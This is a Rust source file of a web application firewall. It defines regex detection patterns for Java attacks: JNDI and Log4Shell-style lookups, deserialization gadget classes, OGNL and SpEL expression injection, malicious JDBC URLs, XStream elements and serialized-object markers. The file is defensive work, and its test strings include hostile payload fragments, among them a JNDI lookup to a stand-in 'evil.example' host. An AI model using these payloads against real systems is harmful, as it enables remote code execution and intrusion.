//! Java: classes, expression languages, lookups, serialized objects.

use crate::waf::detect::macros::patterns;
use crate::waf::view::Places;

patterns! {
    class Java, tags &["java"], places Places::VALUES;
    NESTED_LOOKUP: "java-lookup", STRONG, "a lookup that a logger resolves",
        literals ["${"],
        r"\$\{\s*(?:\$\{|(?:env|sys|lower|upper|date|main|ctx|base64|java|bundle|sd|map|log4j|k8s|docker|web|spring|script|dns|url|const|xml):|[^}\s]*\$\{|(?-i:[A-Z0-9_]*[^A-Z0-9_}\s][^}\s]*)?:-)",
        ["${${lower:j}ndi}", "${env:AWS_SECRET}", "${::-j}", "${j${A:-n}di:x}"], ["${DB_PASSWORD:-secret}", "${first_name}", "Dear ${user.name}"];
    CLASS: "java-class", STRONG, "a class of Java that attacks reach for",
        literals ["java.", "javax.", "com.sun.", "xwork", "org.omg.", "javassist", "org.apache.", "springframework", "org.codehaus", "org.hibernate", "org.mozilla", "org.python", "bsh.interp", "freemarker."],
        r"(?:(?:^/?|[^\w./\s]\s*|[^\st]\s+)java\.(?:lang\.(?:runtime|process(?:builder|impl)?|class(?:loader)?|object|system|thread|reflect|string(?:builder|buffer)?|integer|character|boolean|math|byte|short|long|number|shutdown|package|unixprocess|exception|override|compiler|securitymanager)\b|io\.(?:\w*(?:reader|writer|stream)|file|console|serializable|objectstreamclass)\b|(?:net|nio|rmi|beans|sql|security)\.(?:\w+\.)*\w*(?:[a-mo-qs-z\d]|[^o\W]n|[^o\W]r)(?:[^\w.]|$)|util\.(?:scanner|zip|jar|logging|concurrent|hashmap|priorityqueue)\b|runtime\b|processbuilder\b|(?:\w+\.)+(?:runtime|processbuilder)\b)|(?:^/?|[^\w./\s]\s*|[^\st]\s+)javax\.(?:script|naming|management|el|servlet|xml|crypto)\.(?:\w+\.)*\w*(?:[a-mo-qs-z\d]|[^o\W]n|[^o\W]r)(?:[^\w.]|$)|\bjavassist\b|\bcom\.sun\.(?:org\.apache|rowset|jndi|net|syndication)|\b(?:com\.opensymphony\.)xwork2?|\borg\.omg\.corba|(?:^|[=:\x22'(@#,;>{\[]\s*)org\.(?:apache\.(?:commons|struts2?|catalina|xalan|bcel|tomcat|logging|log4j|velocity|xbean)|springframework\.(?:context|beans|expression|core)\.(?:\w+\.)*\w*(?:[a-mo-qs-z\d]|[^o\W]n|[^o\W]r)(?:[^\w.]|$)|codehaus\.groovy|hibernate\.(?:\w+\.)*\w*(?:[a-mo-qs-z\d]|[^o\W]n|[^o\W]r)(?:[^\w.]|$)|mozilla\.javascript|python\.core)|springframework\.context\.support\.\w+|\bbsh\.interpreter|\bfreemarker\.(?:core|template))",
        ["java.lang.Runtime", "java.io.BufferedReader", "javax.script.ScriptEngineManager"],
        ["java.lang.NullPointerException: x is null", "at org.apache.tomcat.x", "javascript.info", "Caused by: java.sql.SQLException: x", "\tat java.lang.Thread.run(Thread.java:833)", "at java.base/java.net.Socket.connect(Socket.java:1)", "javax.servlet.ServletException: x"];
    GADGET: "java-gadget", STRONG, "a class of a chain that deserialization runs",
        literals ["transformer", "forclosure", "whileclosure", "instantiatefactory", "prototypeclonefactory", "prototypeserializationfactory", "templatesimpl", "beancomparator", "badattributevalue", "jdbcrowset", "xmldecoder", "ysoserial", "annotationinvocationhandler"],
        r"(?:(?:clone|instantiate|invoker|chained|constant)transformer|(?:for|while|transformer)closure|instantiatefactory|prototypeclonefactory|prototypeserializationfactory|templatesimpl\b|beancomparator|badattributevalueexpexception|jdbcrowsetimpl|xmldecoder\b|ysoserial|annotationinvocationhandler)",
        ["InvokerTransformer", "runtime.forclosure"], ["disclosure", "closure of the road"];
    EXPRESSION: "java-expression", STRONG, "an expression language that calls methods",
        literals ["memberaccess", "processbuilder", "#context", "@java", "@org.apache", "t(java", "t(org.", "t (java", "t (org.", "(#", "( #", "getruntime", "#application", "#parameters", "redirect:", "redirectaction:", "redirect-action:", "action:", "staticmethod", "getclass", "#response", "#request", "#session", "class.forname", "getdeclared", "#{", "%{", "${"],
        r"(?:#_?memberaccess|allowstaticmethodaccess|#context\s*[\[.=]|\(\s*#\w+\s*=|@java\.|@org\.apache|\bt\s*\(\s*(?:java|org|javax)\.|\bgetruntime\s*\((?:\s*\)\s*(?:[^;\s]|$)|\s*[^)\s]|\s*$)|#(?:application|parameters|response|request|session)\s*[\[.]|\b(?:redirect(?:-?action)?|action):\s*[$%#]\{|\bgetclass\s*\(\s*\)\s*\.|\$\w+\.getclass\s*\(|[%$]\{\s*#\w+\s*=|\bprocessbuilder\s*\(|\bclass\.forname\s*\(|\bgetdeclared(?:method|constructor|field)s?\s*\(|[$#%]\{[^}\r\n]*(?:\.exec\s*\(|\.getclass|\.class\.|applicationscope|\bfacescontext|pagecontext|@\w+@|new\s+\w+))",
        ["%{(#_memberAccess=x)}", "T(java.lang.Runtime).getRuntime()", "${''.getClass().forName('x')}"], ["action: none", "#{title}"];
    CLASS_LOADER: "java-class-loader", STRONG, "the class loader by way of a property",
        literals ["class.module", "class.classloader", "class.protection", "class["], r"\bclass(?:\.|\[['\x22]?)(?:module|classloader|protectiondomain)\b", ["class.module.classLoader.x"], ["class module"];
    DECODER: "java-xml-decoder", STRONG, "objects of Java in XML",
        literals ["<java", "<object", "<void"], r"<(?:java|object|void)\b[^>]*\bclass\s*=\s*['\x22]java", ["<java class=\"java.beans.XMLDecoder\">"], [];
    STREAMED: "java-xstream", STRONG, "elements by which XStream makes objects that run code",
        literals ["dynamic-proxy", "<jdk.nashorn", "<sorted-set", "<javax.", "<com.sun.", "<sun.", "<tree-map", "eventhandler"],
        r"<(?:dynamic-proxy|sorted-set|tree-map|jdk\.nashorn\.[\w.$-]+|javax\.\w+\.[\w.$-]+|com\.sun\.[\w.$-]+|sun\.\w+\.[\w.$-]+|java\.util\.(?:priorityqueue|serviceloader)[\w$-]*)[\s/>]|\bjava\.beans\.eventhandler\b",
        ["<sorted-set><dynamic-proxy>", "<jdk.nashorn.internal.objects.NativeString>"], ["<set>", "a dynamic-proxy is a class"];
    DRIVER: "java-jdbc", STRONG, "an address of a database that makes its driver run or read what it names",
        literals ["jdbc:"],
        r"\bjdbc:\w+:\S*?(?:autodeserialize|[;?&]init=|socketfactory|allow(?:loadlocalinfile|urlinlocalinfile)|loggerfile|(?:query|statement)interceptors|runscript|;trace_level)",
        ["jdbc:mysql://a.example/x?autoDeserialize=true", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'"], ["jdbc:postgresql://db.example.com:5432/app?ssl=true"];
    GROOVY: "java-groovy", STRONG, "Groovy that runs a program or code",
        literals [".execute()", "groovy.", "@asttest"],
        r"(?:['\x22\])]\.execute\(\)|\bgroovy\.(?:lang|util|transform)\.\w|@asttest\b)",
        ["\"id\".execute()", "groovy.lang.GroovyShell", "['id'].execute().text"], ["query.execute()", "groovy. Language"];
    HEXADECIMAL: "java-serialized-hex", STRONG, "a serialized object of Java in hexadecimal",
        literals ["aced0005"], r"^\s*aced0005(?:7[0-9a-f])[0-9a-f]{12}", ["aced0005737200116a6176612e75"], ["aced0005", "faced0005737200116a61"];
}

/// What strikes those who only store a file, or log of it.
pub(super) mod anywhere {
    use crate::waf::detect::macros::patterns;
    use crate::waf::view::{Place, Places};

    patterns! {
        class Java, tags &["java"], places Places::VALUES.and(&[Place::File]);
        LOOKUP: "java-jndi", STRONG, "a lookup by JNDI",
            literals ["jndi", "ndi:"], r"(?:\$\{?\s*jndi\s*:|\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\bndi:(?:ldaps?|rmi|dns):)",
            ["${jndi:ldap://evil.example/a}"], ["the jndi tutorial"];
        SERIALIZED: "java-serialized", STRONG, "a serialized object of Java",
            literals ["rO0AB", "KztAAU", "Cs7QAF", "H4sIAAAAAAAA"], r"(?:^|[^a-z0-9+/])(?-i:rO0AB[A-Za-z]|KztAAU|Cs7QAF)", ["rO0ABXNyABFq"], ["pro0abc"];
        STREAM: "java-stream", STRONG, "the head of a stream of Java objects",
            literals ["\u{0}\u{5}"], r"\xac\xed\x00\x05", [], [];
    }
}
